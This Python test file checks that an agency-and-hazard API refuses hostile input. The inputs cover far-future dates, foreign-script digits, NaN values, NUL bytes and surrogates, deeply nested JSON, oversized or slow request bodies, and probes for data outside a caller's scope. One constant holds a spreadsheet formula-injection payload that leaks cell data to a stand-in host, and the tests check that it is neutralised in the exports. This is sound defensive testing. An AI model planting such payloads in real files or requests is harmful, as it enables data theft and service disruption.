"""Hostile input through the API and a real worker: refused with a clear 422, nothing changed.

Each test names the defect of the hostile-input issue it guards against.
"""

import csv
import io
import json

import anyio
import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine
from starlette.types import Message, Receive, Scope, Send

from agencyflow.api.guard import RequestGuard
from agencyflow.config.settings import Settings
from agencyflow.domain.identity import Role
from agencyflow.store import agencies
from agencyflow.store import hazards as hazard_store
from tests.api.test_agencies import People, _apply
from tests.api.test_hazards import PNG, _found, _photo, _visit, _with_photos
from tests.api.test_projects import Office, _in_service, _today, admitted
from tests.factories import (
    bearer,
    facts,
    fresh_agency,
    id_number,
    professional,
    uscc,
    user,
)


@pytest.fixture
def people(engine: Engine) -> People:
    return People(engine, fresh_agency())


def _fields(response: httpx.Response) -> list[list[str | int]]:
    return [entry["loc"] for entry in response.json()["detail"]]


# ---------------------------------------------------------------- 1. dates that wedge workflows


async def test_a_certificate_valid_until_year_9999_is_422_and_starts_nothing(
    api: httpx.AsyncClient, people: People, engine: Engine
) -> None:
    application = facts(people.number)
    application["professionals"][0]["certificates"][0]["valid_until"] = "9999-12-31"
    response = await api.post("/agencies", headers=bearer(people.agency), json=application)
    assert response.status_code == 422
    assert _fields(response) == [["body", "professionals", 0, "certificates", 0, "valid_until"]]
    assert agencies.get(engine, people.uscc) is None


async def test_the_last_date_accepted_runs_its_workflow_to_an_answer(
    api: httpx.AsyncClient, people: People
) -> None:
    """The upper bound itself leaves the deadline arithmetic room: the agency is admitted
    and answers later commands."""
    application = facts(people.number)
    for person in application["professionals"]:
        person["certificates"][0]["valid_until"] = "2099-12-31"
    applied = await api.post("/agencies", headers=bearer(people.agency), json=application)
    assert applied.status_code == 201, applied.text
    approved = await api.post(
        f"/agencies/{people.uscc}/approve", headers=bearer(people.county), json={}
    )
    assert approved.status_code == 200, approved.text
    assert approved.json()["status"] == "active"


async def test_a_hazard_deadline_in_year_9999_is_422_and_records_no_visit(
    api: httpx.AsyncClient, engine: Engine
) -> None:
    office = await admitted(api, engine)
    pid = await _in_service(api, office)
    report = await _with_photos(api, office, rectification_deadline="9999-12-30")
    response = await _visit(api, office, pid, hazards=[report])
    assert response.status_code == 422
    assert _fields(response) == [["body", "hazards", 0, "rectification_deadline"]]
    shown = await api.get(f"/projects/{pid}", headers=bearer(office.agency))
    assert shown.json()["project"]["visits"] == []


async def test_a_supervision_deadline_in_year_9999_is_422_and_changes_nothing(
    api: httpx.AsyncClient, engine: Engine
) -> None:
    office = await admitted(api, engine)
    _, (hazard_id,) = await _found(api, office, {"level": "major"})
    before = hazard_store.get(engine, hazard_id)
    response = await api.post(
        f"/hazards/{hazard_id}/supervise",
        headers=bearer(office.county),
        json={"deadline": "9999-12-30"},
    )
    assert response.status_code == 422
    assert _fields(response) == [["body", "deadline"]]
    assert hazard_store.get(engine, hazard_id) == before


# ---------------------------------------------------------------- 5. one spelling per code


async def _rival_claims(
    api: httpx.AsyncClient, people: People, engine: Engine, claimed: dict[str, object]
) -> tuple[People, httpx.Response]:
    """``people``'s agency admitted with its professionals 1–5; another agency, in another
    county, applies listing ``claimed`` as full-time among its own."""
    await _apply(api, people)
    await api.post(f"/agencies/{people.uscc}/approve", headers=bearer(people.county), json={})
    rival = People(engine, fresh_agency(), county="331121")
    application = facts(rival.number, first_professional=20, registered_county_code="331121")
    application["professionals"].append(claimed)
    response = await api.post("/agencies", headers=bearer(rival.agency), json=application)
    return rival, response


async def test_a_full_width_digit_names_the_same_person_full_time_elsewhere(
    api: httpx.AsyncClient, people: People, engine: Engine
) -> None:
    twin = professional(3)
    twin["id_number"] = "３" + id_number(3)[1:]  # what a Chinese input method types
    rival, response = await _rival_claims(api, people, engine, twin)
    assert response.status_code == 409
    assert response.json()["detail"][0]["type"] == "agency.full_time_elsewhere"
    assert agencies.get(engine, rival.uscc) is None


@pytest.mark.parametrize("digit", ["٣", "३", "๓"])
async def test_a_digit_of_another_script_is_422(
    api: httpx.AsyncClient, people: People, engine: Engine, digit: str
) -> None:
    application = facts(people.number)
    application["professionals"][0]["id_number"] = digit + id_number(1)[1:]
    response = await api.post("/agencies", headers=bearer(people.agency), json=application)
    assert response.status_code == 422
    assert _fields(response) == [["body", "professionals", 0, "id_number"]]
    assert agencies.get(engine, people.uscc) is None


async def test_a_county_code_in_another_script_is_422(
    api: httpx.AsyncClient, people: People, engine: Engine
) -> None:
    response = await _apply(api, people, out_of_town=True, registered_county_code="٣٣٠١٠٢")
    assert response.status_code == 422
    assert _fields(response) == [["body", "registered_county_code"]]
    assert agencies.get(engine, people.uscc) is None


# ---------------------------------------------------------------- 12. numbers past the database's


async def test_an_offset_past_any_page_is_422_not_500(api: httpx.AsyncClient) -> None:
    response = await api.get("/public/agencies", params={"offset": 2**63})
    assert response.status_code == 422
    assert _fields(response) == [["query", "offset"]]


async def test_nan_infinity_and_huge_numbers_are_422_not_500(
    api: httpx.AsyncClient, people: People, engine: Engine
) -> None:
    for number in ("NaN", "Infinity", "-Infinity", "1e999"):
        body = json.dumps(facts(people.number)).replace(
            '"workplace_area_m2": 120', f'"workplace_area_m2": {number}'
        )
        response = await api.post(
            "/agencies",
            headers={**bearer(people.agency), "Content-Type": "application/json"},
            content=body,
        )
        assert response.status_code == 422, (number, response.text)
        assert _fields(response) == [["body", "workplace_area_m2"]]
    assert agencies.get(engine, people.uscc) is None


@pytest.mark.parametrize(
    ("text", "why"), [("\\ud800", "surrogates"), ("a\\u0000b", "NUL"), ("\\udc00x", "surrogates")]
)
async def test_characters_nothing_can_store_are_422_naming_the_field(
    api: httpx.AsyncClient, people: People, engine: Engine, text: str, why: str
) -> None:
    body = json.dumps(facts(people.number), ensure_ascii=False).replace(
        '"丽水市莲都区中山街1号"', f'"中山街{text}"'
    )
    response = await api.post(
        "/agencies",
        headers={**bearer(people.agency), "Content-Type": "application/json"},
        content=body.encode(),
    )
    assert response.status_code == 422, response.text
    assert response.json()["detail"] == [
        {
            "type": "request.invalid_characters",
            "loc": ["body", "registered_address"],
            "msg": response.json()["detail"][0]["msg"],
        }
    ]
    assert why in response.json()["detail"][0]["msg"]
    assert agencies.get(engine, people.uscc) is None


async def test_nul_in_a_path_or_query_is_422(api: httpx.AsyncClient, people: People) -> None:
    for url in (f"/agencies/{people.uscc}%00", "/public/agencies?county=33%0011"):
        response = await api.get(url, headers=bearer(people.county))
        assert response.status_code == 422, (url, response.text)
        assert response.json()["detail"][0]["type"] == "request.invalid_characters"


# ---------------------------------------------------------------- 13. one error shape


async def test_unknown_routes_and_wrong_methods_answer_in_the_error_shape(
    api: httpx.AsyncClient, people: People
) -> None:
    missing = await api.get("/no/such/route", headers=bearer(people.agency))
    assert missing.status_code == 404
    assert missing.json()["detail"][0]["type"] == "http.not_found"
    wrong = await api.delete("/health")
    assert wrong.status_code == 405
    assert wrong.json()["detail"] == [
        {"type": "http.method_not_allowed", "loc": [], "msg": wrong.json()["detail"][0]["msg"]}
    ]


async def test_a_validation_error_never_echoes_the_input(
    api: httpx.AsyncClient, people: People
) -> None:
    application = facts(people.number)
    secret = id_number(1)[:-1] + ("0" if id_number(1)[-1] != "0" else "1")  # wrong check char
    application["professionals"][0]["id_number"] = secret
    response = await api.post("/agencies", headers=bearer(people.agency), json=application)
    assert response.status_code == 422
    assert secret not in response.text
    assert all(set(entry) == {"type", "loc", "msg"} for entry in response.json()["detail"])


# ---------------------------------------------------------------- 11. bodies: size and pace


async def test_a_body_over_the_limit_is_413_before_the_token_is_even_read(
    api: httpx.AsyncClient, settings: Settings
) -> None:
    big = b'{"x": "' + b"a" * settings.request_max_bytes + b'"}'
    response = await api.post(
        "/agencies", content=big, headers={"Content-Type": "application/json"}
    )
    assert response.status_code == 413
    assert response.json()["detail"][0]["type"] == "request.too_large"


async def test_a_body_without_a_length_is_cut_off_at_the_limit(settings: Settings) -> None:
    """A chunked body is counted as it arrives: the app never sees more than the limit."""
    reached: list[int] = []

    async def app(scope: Scope, receive: Receive, send: Send) -> None:
        reached.append(1)

    chunk = b"a" * 65536
    sent = 0

    async def receive() -> Message:
        nonlocal sent
        sent += len(chunk)
        return {"type": "http.request", "body": chunk, "more_body": True}

    status = await _guarded(RequestGuard(app, settings), receive)
    assert status == 413
    assert reached == []
    assert sent <= settings.request_max_bytes + len(chunk)


async def test_a_body_that_trickles_in_is_cut_off(settings: Settings) -> None:
    reached: list[int] = []

    async def app(scope: Scope, receive: Receive, send: Send) -> None:
        reached.append(1)

    async def receive() -> Message:
        await anyio.sleep_forever()
        raise AssertionError("unreachable")

    slow = settings.model_copy(update={"request_body_seconds": 0.2})
    assert await _guarded(RequestGuard(app, slow), receive) == 408
    assert reached == []


async def _guarded(guard: RequestGuard, receive: Receive) -> int:
    statuses: list[int] = []

    async def send(message: Message) -> None:
        if message["type"] == "http.response.start":
            statuses.append(message["status"])

    scope = {
        "type": "http",
        "method": "POST",
        "path": "/agencies",
        "query_string": b"",
        "headers": [(b"content-type", b"application/json")],
    }
    await guard(scope, receive, send)
    return statuses[0]


# ---------------------------------------------------------------- 7. formulas in exports

FORMULA = '=HYPERLINK("http://x/?"&A2,"点此查看")'


async def test_a_formula_in_a_hazard_is_text_in_both_exports(
    api: httpx.AsyncClient, engine: Engine
) -> None:
    office = await admitted(api, engine)
    await _found(api, office, {"location": FORMULA, "description": "＝1+1"})
    ledger = f"/enterprises/{uscc(office.enterprise)}/ledger"

    xlsx = await api.get(f"{ledger}?format=xlsx", headers=bearer(office.owner))
    book = load_workbook(io.BytesIO(xlsx.content))
    cells = [cell for row in book["隐患台账"].iter_rows() for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells}
    assert "'" + FORMULA in texts and "'＝1+1" in texts

    csv_text = (await api.get(f"{ledger}?format=csv", headers=bearer(office.owner))).text
    fields = [field for row in csv.reader(io.StringIO(csv_text)) for field in row]
    assert "'" + FORMULA in fields
    assert FORMULA not in fields


# ---------------------------------------------------------------- 3. files only with their resource


async def test_a_photo_is_served_only_to_those_who_may_see_its_hazard(
    api: httpx.AsyncClient, engine: Engine
) -> None:
    office = await admitted(api, engine)
    _, (hazard_id,) = await _found(api, office, {})
    photo = hazard_store.get(engine, hazard_id).report.photos[0]  # type: ignore[union-attr]
    unattached = await _photo(api, office.agency, PNG + b"never attached", "unused.png")
    _, stranger_agency = user(engine, Role.AGENCY, agency_uscc=uscc(fresh_agency()))
    _, stranger_owner = user(engine, Role.ENTERPRISE, enterprise_uscc=uscc(fresh_agency()))

    async def status(token: str, file_id: str) -> int:
        return (await api.get(f"/files/{file_id}", headers=bearer(token))).status_code

    for token in (office.agency, office.county, office.city, office.owner):
        assert await status(token, photo) == 200
    for token in (stranger_agency, office.other_county, stranger_owner):
        assert await status(token, photo) == 404
    assert await status(office.agency, unattached) == 200  # its uploader
    for token in (office.county, stranger_agency):
        assert await status(token, unattached) == 404


# ---------------------------------------------------------------- 6. no oracle


async def test_the_full_time_conflict_names_no_other_agency(
    api: httpx.AsyncClient, people: People, engine: Engine
) -> None:
    _, response = await _rival_claims(api, people, engine, professional(3))
    assert response.status_code == 409
    legal_name = facts(people.number)["legal_name"]
    assert people.uscc not in response.text and legal_name not in response.text


async def test_scoped_callers_cannot_tell_foreign_from_missing(
    api: httpx.AsyncClient, engine: Engine
) -> None:
    office = await admitted(api, engine)
    pid, (hazard_id,) = await _found(api, office, {})
    rival_uscc = uscc(fresh_agency())
    _, rival = user(engine, Role.AGENCY, agency_uscc=rival_uscc)
    missing_pid = office.pid("LS-NEVER-SIGNED")

    async def answer(token: str, path: str) -> tuple[int, str]:
        response = await api.get(path, headers=bearer(token))
        return response.status_code, response.json()["detail"][0]["type"]

    async def refusal(token: str, project: str) -> dict[str, object]:
        response = await api.post(
            f"/projects/{project}/plan", headers=bearer(token), json={"summary": "方案"}
        )
        return {"status": response.status_code, "detail": response.json()["detail"]}

    for token in (rival, office.other_county):
        existing = await answer(token, f"/projects/{pid}")
        assert existing == (403, "auth.out_of_scope")
        assert await answer(token, f"/projects/{missing_pid}") == existing
        assert await answer(token, f"/hazards/{hazard_id}") == existing
        assert await answer(token, f"/hazards/{missing_pid}-h1") == existing
        # A command, too, is refused word for word alike.
        assert await refusal(token, pid) == await refusal(token, missing_pid)
    never_applied = uscc(fresh_agency())
    assert await answer(office.other_county, f"/agencies/{office.uscc}") == (
        403,
        "auth.out_of_scope",
    )
    assert await answer(office.other_county, f"/agencies/{never_applied}") == (
        403,
        "auth.out_of_scope",
    )
    # Whoever would see it if it existed hears that it does not.
    assert await answer(office.agency, f"/projects/{missing_pid}") == (404, "project.not_found")
    assert await answer(office.city, f"/agencies/{never_applied}") == (404, "agency.not_found")


# ---------------------------------------------------------------- 8. no renaming by a later contract


async def test_a_later_contract_under_another_name_does_not_rename_the_enterprise(
    api: httpx.AsyncClient, engine: Engine
) -> None:
    office = await admitted(api, engine)
    first = office.request()
    assert (
        await api.post("/projects", headers=bearer(office.agency), json=first)
    ).status_code == 201
    other = Office(engine, fresh_agency())
    application = facts(other.number, first_professional=40)
    assert (
        await api.post("/agencies", headers=bearer(other.agency), json=application)
    ).status_code == 201
    await api.post(f"/agencies/{other.uscc}/approve", headers=bearer(other.county), json={})
    renamed = {**first, "enterprise": {**first["enterprise"], "name": "冒名顶替有限公司"}}
    later = await api.post("/projects", headers=bearer(other.agency), json=renamed)
    assert later.status_code == 201, later.text

    shown = await api.get(
        f"/enterprises/{first['enterprise']['uscc']}/file", headers=bearer(office.county)
    )
    assert shown.json()["enterprise_name"] == first["enterprise"]["name"]
    assert len(shown.json()["projects"]) == 2


# ---------------------------------------------------------------- 2. large but valid input


async def test_the_largest_visit_the_api_takes_is_recorded_and_a_larger_one_is_413(
    api: httpx.AsyncClient, engine: Engine, settings: Settings
) -> None:
    """Up to the body limit, a visit passes Temporal's payload limits and is recorded;
    beyond it, the answer is an immediate 413, never a 500 after the engine gives up."""
    office = await admitted(api, engine)
    pid = await _in_service(api, office)
    report = await _with_photos(api, office, description="隐" * 4000, suggestion="改" * 4000)

    def body(hazards: int) -> bytes:
        visit = {
            "visited_on": _today(),
            "present": ["p1"],
            "activities": ["inspection"],
            "hazards": [report] * hazards,
        }
        return json.dumps(visit, ensure_ascii=False).encode()

    most = max(n for n in range(1, 201) if len(body(n)) <= settings.request_max_bytes)
    headers = {**bearer(office.agency), "Content-Type": "application/json"}
    too_many = await api.post(f"/projects/{pid}/visits", headers=headers, content=body(most + 1))
    assert too_many.status_code == 413
    recorded = await api.post(f"/projects/{pid}/visits", headers=headers, content=body(most))
    assert recorded.status_code == 201, recorded.text
    assert len(recorded.json()["project"]["visits"][0]["hazard_ids"]) == most


# ---------------------------------------------------------------- the guard's own edges


async def test_json_nested_beyond_reason_is_422_not_500(
    api: httpx.AsyncClient, people: People
) -> None:
    deep = b"[" * 100_000 + b"]" * 100_000
    headers = {**bearer(people.agency), "Content-Type": "application/json"}
    response = await api.post("/agencies", headers=headers, content=deep[:900_000])
    assert response.status_code == 422
    assert response.json()["detail"][0]["type"] == "request.too_deep"


@pytest.mark.parametrize("content_type", ["Application/JSON", "application/x+json", "text/plain"])
async def test_the_character_check_holds_whatever_the_body_claims_to_be(
    api: httpx.AsyncClient, people: People, engine: Engine, content_type: str
) -> None:
    body = json.dumps(facts(people.number), ensure_ascii=False).replace(
        "中山街1号", "中山街\\u0000"
    )
    headers = {**bearer(people.agency), "Content-Type": content_type}
    response = await api.post("/agencies", headers=headers, content=body.encode())
    assert response.status_code == 422, response.text
    assert agencies.get(engine, people.uscc) is None


async def test_a_body_cut_off_by_the_client_reaches_nothing(settings: Settings) -> None:
    reached: list[int] = []

    async def app(scope: Scope, receive: Receive, send: Send) -> None:
        reached.append(1)

    parts: list[Message] = [
        {"type": "http.request", "body": b'{"a": 1}', "more_body": True},
        {"type": "http.disconnect"},
    ]

    async def receive() -> Message:
        return parts.pop(0)

    sent: list[Message] = []

    async def send(message: Message) -> None:
        sent.append(message)

    scope = {
        "type": "http",
        "method": "POST",
        "path": "/agencies",
        "query_string": b"",
        "headers": [(b"content-type", b"application/json"), (b"content-length", b"20")],
    }
    await RequestGuard(app, settings)(scope, receive, send)
    assert reached == [] and sent == []


async def test_a_large_file_to_a_route_that_takes_none_is_413(
    api: httpx.AsyncClient, people: People, settings: Settings
) -> None:
    big = b"a" * (settings.request_max_bytes + 1)
    response = await api.post(
        f"/agencies/{people.uscc}/approve",
        headers=bearer(people.county),
        files={"file": ("x.bin", big)},
    )
    assert response.status_code == 413
